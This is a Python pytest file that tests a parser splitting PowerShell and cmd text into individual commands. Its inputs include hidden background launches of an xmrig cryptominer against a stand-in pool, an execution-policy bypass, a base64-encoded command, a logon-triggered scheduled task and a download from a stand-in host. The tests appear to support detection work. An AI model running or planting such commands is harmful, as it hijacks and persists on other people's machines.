"""Texts of PowerShell and the command prompt, taken apart as far as they are simple commands."""

from __future__ import annotations

import base64
import shlex

import pytest

from parsers.dissect.commands import dissect

MINER = ("-o", "pool.example:3333", "-u", "W")


def commands(text: str) -> list[tuple[str, str | None, tuple[str, ...]]]:
    return [(part.via, part.executable, part.argv[1:]) for part in dissect(text)]


def powershell(text: str, name: str = "powershell.exe -NoProfile -Command") -> str:
    return f"{name} {shlex.quote(text)}"


@pytest.mark.parametrize(
    "text",
    [
        powershell(
            r"Start-Process -WindowStyle Hidden -FilePath $env:APPDATA\w\xmrig.exe -Args '-o pool.example:3333 -u W'"
        ),
        powershell(r"start-process .\xmrig.exe -Args @('-o', 'pool.example:3333', '-u', 'W')"),
        powershell(r"saps C:\w\xmrig.exe -argumentlist '-o','pool.example:3333','-u','W'", "pwsh -ep Bypass -c"),
        r"cmd.exe /c 'start /b C:\w\xmrig.exe -o pool.example:3333 -u W'",
    ],
)
def test_what_is_started_is_a_command_of_its_own_that_is_left_running(text: str) -> None:
    last = dissect(text)[-1]
    assert (last.via, last.executable, last.argv[1:]) == ("start_process", "xmrig.exe", MINER)
    assert "background" in last.notes


@pytest.mark.parametrize(
    "text",
    [
        powershell("& 'C:\\my files\\xmrig.exe' -o pool.example:3333 -u W"),
        powershell("C:\\w\\xmrig.exe -o pool.example:3333 `\n -u W"),
        r"""'C:\Windows\System32\cmd.exe' /d /c 'C:\w\xmrig.exe -o pool.example:3333 -u W'""",
        "pwsh -enc " + base64.b64encode("C:\\w\\xmrig.exe -o pool.example:3333 -u W".encode("utf-16-le")).decode(),
    ],
)
def test_a_text_is_taken_apart(text: str) -> None:
    assert commands(text)[-1][1:] == ("xmrig.exe", MINER)


def test_what_a_task_will_run_is_scheduled() -> None:
    text = powershell(r'schtasks /Create /SC ONLOGON /TN T /TR "C:\w\xmrig.exe -o pool.example:3333 -u W"')
    assert commands(text)[-1] == ("cron", "xmrig.exe", MINER)
    assert len(dissect("schtasks /Query /TN T /TR x")) == 1


def test_commands_follow_each_other() -> None:
    told = commands(powershell(r"iwr https://a.example/x.zip -OutFile x.zip; Expand-Archive x.zip | Out-Null"))
    assert [name for _, name, _ in told] == ["powershell.exe", "iwr", "Expand-Archive", "Out-Null"]


@pytest.mark.parametrize(
    "text",
    [
        "powershell -File w.ps1",
        "powershell w.ps1 -o x",
        "pwsh -enc !!",
        "powershell",
        "cmd",
        "start",
        "cmd /q",
        "Start-Process -Wait",
    ],
)
def test_what_carries_no_text_is_one_command(text: str) -> None:
    assert len(dissect(text)) == 1
